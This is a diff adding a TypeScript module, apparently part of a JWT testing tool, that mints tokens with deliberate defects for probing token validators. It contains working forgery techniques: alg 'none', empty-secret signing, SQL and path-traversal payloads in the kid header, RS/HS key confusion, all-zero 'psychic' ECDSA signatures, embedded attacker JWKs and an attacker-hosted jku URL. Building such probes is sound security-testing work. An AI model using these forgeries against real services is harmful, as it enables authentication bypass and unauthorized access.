@@ -1,0 +1,193 @@
+import type { CompactJWSHeaderParameters as JWSHeaderParameters, JWK } from 'jose';
+import { usageError } from '../errors.js';
+import { deleteAtPointer, getAtPointer, setAtPointer } from '../jsonpointer.js';
+import { isHmac, type JWTAlgorithm } from '../keys/algorithms.js';
+import type { Keystore } from '../keys/keystore.js';
+import { buildClaims, DEFAULT_CLAIMS_MAPPING, type ClaimsMapping } from './claims.js';
+import type { DefectSpec } from './defects.js';
+import {
+  corruptSignature, ecdsaSignatureLength, encodeSegment, generateAttackerKey, publicPem, randomKid, signCompact, signHs256Raw, unsigned, type AttackerKey,
+} from './forge.js';
+import { base64url } from 'jose';
+
+export const DEFAULT_ISSUER = 'http://127.0.0.1:9400';
+export const DEFAULT_TTL_SECONDS = 900;
+export const DEFAULT_DEFECT_SKEW_SECONDS = 600;
+
+export interface MintTokenOptions {
+  keystore: Keystore;
+  issuer?: string;
+  subject?: string;
+  audience?: string[];
+  /** Lifetime in seconds (default 15 min). */
+  ttlSeconds?: number;
+  /** Absolute times, seconds since epoch. */
+  notBefore?: number;
+  issuedAt?: number;
+  jti?: string;
+  alg?: JWTAlgorithm;
+  kid?: string;
+  scopes?: string[];
+  roles?: string[];
+  tenant?: string;
+  /** Extra claims by JSON pointer or name. */
+  claims?: Record<string, unknown>;
+  /** Extra JOSE header fields. */
+  header?: Record<string, unknown>;
+  mapping?: Partial<ClaimsMapping>;
+  /** HMAC secret for HS* (else the keystore's generated secret). */
+  secret?: Uint8Array;
+  defect?: DefectSpec;
+  /** How far in the past/future `expired` and `not-yet-valid` put the time claims (default 10 min). */
+  skewSeconds?: number;
+  /** For the `jku` defect: where the attacker JWKS is served. */
+  jkuUrl?: string;
+  /** Reuse one attacker key across forgeries (the probe serves its JWKS). */
+  attackerKey?: AttackerKey;
+  /** Milliseconds since epoch. */
+  clock?: () => number;
+}
+
+export interface MintTokenResult {
+  token: string;
+  header: Record<string, unknown>;
+  claims: Record<string, unknown>;
+  /** ISO time of `exp`, if the token has one. */
+  expiresAt?: string;
+  defect?: string;
+  /** The attacker JWKS to serve at the jku URL (jku defect only). */
+  attackerJwks?: { keys: JWK[] };
+}
+
+/** Mints a JWT from the keystore (or an HMAC secret), optionally with one deliberate defect. */
+export async function mintToken(options: MintTokenOptions): Promise<MintTokenResult> {
+  const now = Math.floor((options.clock ?? Date.now)() / 1000);
+  const alg = options.alg ?? 'RS256';
+  const mapping: ClaimsMapping = { ...DEFAULT_CLAIMS_MAPPING, ...options.mapping };
+  const ttl = options.ttlSeconds ?? DEFAULT_TTL_SECONDS;
+  const issuedAt = options.issuedAt ?? now;
+  const claims = buildClaims({
+    issuer: options.issuer ?? DEFAULT_ISSUER,
+    subject: options.subject,
+    audience: options.audience,
+    issuedAt,
+    notBefore: options.notBefore,
+    expiresAt: (options.notBefore ?? issuedAt) + ttl,
+    jti: options.jti,
+    scopes: options.scopes,
+    roles: options.roles,
+    tenant: options.tenant,
+    extra: options.claims,
+    mapping,
+  });
+
+  let key: CryptoKey | Uint8Array;
+  let kid: string | undefined;
+  let publicJwk: JWK | undefined;
+  if (isHmac(alg) && options.secret) {
+    if (options.secret.length === 0) throw usageError('ERR_EMPTY_SECRET', 'the HMAC secret is empty', { where: '--secret', hint: 'give a non-empty secret (use --defect blank-secret to test empty-key forgeries)' });
+    key = options.secret;
+  } else {
+    const signing = await options.keystore.signingKey(alg, { kid: options.kid });
+    key = signing.key;
+    kid = signing.record.kid;
+    publicJwk = signing.record.publicJwk;
+  }
+  const header: JWSHeaderParameters = { alg, typ: 'JWT', ...(kid ? { kid } : {}), ...options.header };
+  if (options.kid && !kid) header.kid = options.kid;
+
+  const defect = options.defect;
+  const result = (token: string, h: Record<string, unknown> = header, extra: Partial<MintTokenResult> = {}): MintTokenResult => ({
+    token,
+    header: h,
+    claims,
+    expiresAt: typeof claims.exp === 'number' ? new Date(claims.exp * 1000).toISOString() : undefined,
+    ...(defect ? { defect: defect.variant ? `${defect.kind}:${defect.variant}` : defect.kind } : {}),
+    ...extra,
+  });
+  if (!defect) return result(await signCompact(header, claims, key));
+
+  const skew = options.skewSeconds ?? DEFAULT_DEFECT_SKEW_SECONDS;
+  switch (defect.kind) {
+    case 'expired':
+      claims.exp = now - skew;
+      claims.iat = (claims.exp as number) - ttl;
+      if (claims.nbf !== undefined) claims.nbf = claims.iat;
+      break;
+    case 'not-yet-valid':
+      claims.nbf = now + skew;
+      claims.exp = now + skew + ttl;
+      break;
+    case 'wrong-issuer':
+      claims.iss = 'https://wrong-issuer.authctl.invalid';
+      break;
+    case 'wrong-audience':
+      claims.aud = 'api://wrong-audience.authctl.invalid';
+      break;
+    case 'missing-tenant':
+      deleteAtPointer(claims, mapping.tenantClaim);
+      break;
+    case 'wrong-tenant': {
+      const current = getAtPointer(claims, mapping.tenantClaim);
+      setAtPointer(claims, mapping.tenantClaim, defect.variant ?? (current ? `${String(current)}-other` : 'authctl-other-tenant'));
+      break;
+    }
+    case 'missing-scope':
+      delete claims[mapping.scopeClaim];
+      break;
+    case 'no-exp':
+      delete claims.exp;
+      break;
+    case 'bad-signature':
+      return result(corruptSignature(await signCompact(header, claims, key)));
+    case 'null-signature': {
+      const token = await signCompact(header, claims, key);
+      return result(`${token.slice(0, token.lastIndexOf('.'))}.`);
+    }
+    case 'alg-none':
+    case 'alg-none-case': {
+      const h = { alg: defect.kind === 'alg-none' ? 'none' : (defect.variant ?? 'None'), typ: 'JWT' };
+      return result(unsigned(h, claims), h);
+    }
+    case 'blank-secret': {
+      const h = { alg: 'HS256', typ: 'JWT' };
+      return result(signHs256Raw(h, claims, new Uint8Array(0)), h);
+    }
+    case 'kid-injection': {
+      const h = { alg: 'HS256', typ: 'JWT', kid: defect.variant === 'sql' ? "x' UNION SELECT '' -- " : '../../../../../../../dev/null' };
+      return result(signHs256Raw(h, claims, new Uint8Array(0)), h);
+    }
+    case 'hs-confusion': {
+      // The attack needs the issuer's public key: use this alg's key, or the RS256 key for HS requests.
+      const target = publicJwk ? { jwk: publicJwk, kid } : await options.keystore.signingKey('RS256').then((k) => ({ jwk: k.record.publicJwk!, kid: k.record.kid }));
+      const h = { alg: 'HS256', typ: 'JWT', kid: target.kid };
+      return result(signHs256Raw(h, claims, publicPem(target.jwk)), h);
+    }
+    case 'psychic-signature': {
+      const ecAlg = /^ES/.test(alg) ? alg : 'ES256';
+      const h = { alg: ecAlg, typ: 'JWT', ...(ecAlg === alg && kid ? { kid } : {}) };
+      const zeros = base64url.encode(new Uint8Array(ecdsaSignatureLength(ecAlg)));
+      return result(`${encodeSegment(h)}.${encodeSegment(claims)}.${zeros}`, h);
+    }
+    case 'unknown-kid': {
+      const attacker = await generateAttackerKey(alg);
+      const h = { alg: attacker.alg, typ: 'JWT', kid: randomKid() };
+      return result(await signCompact(h, claims, attacker.privateKey), h);
+    }
+    case 'embedded-jwk': {
+      const attacker = options.attackerKey ?? (await generateAttackerKey(alg));
+      const { kid: attackerKid, ...jwk } = attacker.publicJwk;
+      const h = { alg: attacker.alg, typ: 'JWT', kid: attackerKid, jwk: { kty: jwk.kty, crv: jwk.crv, x: jwk.x, y: jwk.y, n: jwk.n, e: jwk.e } };
+      return result(await signCompact(h as JWSHeaderParameters, claims, attacker.privateKey), h);
+    }
+    case 'jku': {
+      if (!options.jkuUrl) {
+        throw usageError('ERR_JKU_URL_REQUIRED', 'the jku defect needs the attacker JWKS URL', { where: '--jku-url', hint: 'add --jku-url https://attacker.example/jwks.json (the JSON output includes the JWKS to serve there)' });
+      }
+      const attacker = options.attackerKey ?? (await generateAttackerKey(alg));
+      const h = { alg: attacker.alg, typ: 'JWT', kid: attacker.publicJwk.kid, jku: options.jkuUrl };
+      return result(await signCompact(h as JWSHeaderParameters, claims, attacker.privateKey), h, { attackerJwks: { keys: [attacker.publicJwk] } });
+    }
+  }
+  return result(await signCompact(header, claims, key));
+}
